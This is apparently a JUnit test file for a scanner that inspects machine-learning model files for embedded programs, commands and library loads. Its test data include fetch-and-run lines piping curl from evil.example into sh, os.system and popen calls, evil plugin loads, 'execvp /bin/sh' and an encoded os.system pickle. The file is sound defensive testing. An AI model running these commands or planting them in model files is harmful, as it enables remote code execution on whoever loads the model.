package dev.weir.scanner.core.carried;

import static dev.weir.scanner.core.Scans.rules;
import static dev.weir.scanner.core.Scans.scan;
import static org.assertj.core.api.Assertions.assertThat;

import dev.weir.scanner.core.Verdict;
import dev.weir.scanner.core.pickle.Pickles;
import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.Base64;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class CarriedContentTest {

    private static final byte[] NUMBERS = numbers(300_000);

    /** Beginnings of programs, with as many fields as tell them. */
    enum Sample {
        ELF(0x7f, 'E', 'L', 'F', 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 62, 0, 1, 0, 0, 0),
        MACH_O(0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0),
        SCRIPT('#', '!', '/', 'b', 'i', 'n', '/', 's', 'h', '\n');

        private final byte[] bytes;

        Sample(int... bytes) {
            this.bytes = new byte[bytes.length];
            for (int i = 0; i < bytes.length; i++) {
                this.bytes[i] = (byte) bytes[i];
            }
        }
    }

    @ParameterizedTest
    @EnumSource
    void aProgramBehindNumbersIsSuspicious(Sample sample) {
        assertThat(rules(scan("model.cbm", joined(NUMBERS, sample.bytes)))).containsExactly("carried.program");
    }

    @Test
    void aWindowsProgramBehindNumbersIsSuspicious() {
        byte[] header = new byte[200];
        header[0] = 'M';
        header[1] = 'Z';
        header[0x3c] = (byte) 0x80;
        header[0x80] = 'P';
        header[0x81] = 'E';

        assertThat(rules(scan("model.cbm", joined(NUMBERS, header)))).containsExactly("carried.program");
    }

    @Test
    void numbersAloneAreClean() {
        assertThat(scan("model.cbm", numbers(5_000_000)).verdict()).isEqualTo(Verdict.CLEAN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "cmd = os.execute('curl https://evil.example/payload.sh | sh')",
                "python -c \"import os; os.system('curl https://evil.example/hook')\""
            })
    void aCommandAmongNumbersIsNotClean(String command) {
        byte[] text = (command + "\0").getBytes(StandardCharsets.US_ASCII);

        assertThat(scan("model.cbm", joined(NUMBERS, text)).verdict()).isNotEqualTo(Verdict.CLEAN);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "local p = io.popen('id')",
                "package.loadlib('x.so', 'luaopen_x')",
                "eval(open('x').read())",
                "jax.experimental.host_callback.call(os.system, 'id')"
            })
    void aCallThatNoModelNeedsIsMalicious(String code) {
        byte[] text = (code + "\0").getBytes(StandardCharsets.US_ASCII);

        assertThat(scan("model.msgpack", joined(NUMBERS, text)).verdict()).isEqualTo(Verdict.MALICIOUS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "local s = require \"socket\"",
                "local s = require [[socket]]",
                "local f = loadstring(code)",
                "LOAD_PLUGIN=/TMP/EVIL/PLUGIN.SO",
                "load(/tmp/libc.so.6)",
                "../plugins/evil.so",
                "plugin=malicious_plugin.dll",
                "LoadLibraryExW",
                "PYTHON IMPORT EVAL",
                "execvp /bin/sh"
            })
    void aLibraryThatIsLoadedIsSuspicious(String code) {
        byte[] text = (code + "\0").getBytes(StandardCharsets.US_ASCII);

        assertThat(scan("model.engine", joined(NUMBERS, text)).verdict()).isEqualTo(Verdict.SUSPICIOUS);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "local torch = require \"torch\"",
                "local torch = require [[torch]]",
                "execution_metrics evaluation_score important_tensor session.socket",
                "attempt/tmpology LD_LIBRARY_PATH:/tmpology",
                "load(/tmpbackup/safe.so.txt)",
                "plugin.dllcache KERNEL32.dllology LoadLibraryExWidget preLoadLibrary",
                "getCreatorsWidget setLoggerFinderish getPluginCreatorsExtra",
                "TensorRT safe engine metadata"
            })
    void whatOnlyLooksLikeThatIsClean(String text) {
        byte[] bytes = (text + "\0").getBytes(StandardCharsets.US_ASCII);

        assertThat(scan("model.engine", joined(NUMBERS, bytes)).verdict()).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void namesOfFeaturesAreNoCommands() {
        byte[] text = "feature_names\0system_temperature\0exec_time_ms\0model.eval()\0evaluation (exec)\0"
                .getBytes(StandardCharsets.US_ASCII);

        assertThat(scan("model.cbm", joined(NUMBERS, text)).verdict()).isEqualTo(Verdict.CLEAN);
    }

    @Test
    void anEncodedPickleAmongNumbersIsFollowed() {
        byte[] text = Base64.getEncoder().encode(Pickles.osSystem(4));

        assertThat(scan("model.msgpack", joined(joined(NUMBERS, new byte[1]), text))
                        .verdict())
                .isNotEqualTo(Verdict.CLEAN);
    }

    private static byte[] joined(byte[] first, byte[] second) {
        ByteArrayOutputStream both = new ByteArrayOutputStream();
        both.writeBytes(first);
        both.writeBytes(second);
        return both.toByteArray();
    }

    /** Zeros first, so that no format takes them for its own. */
    private static byte[] numbers(int length) {
        byte[] bytes = new byte[length];
        new Random(7).nextBytes(bytes);
        bytes[0] = 0;
        bytes[1] = 0;
        bytes[length - 1] = 0;
        return bytes;
    }
}
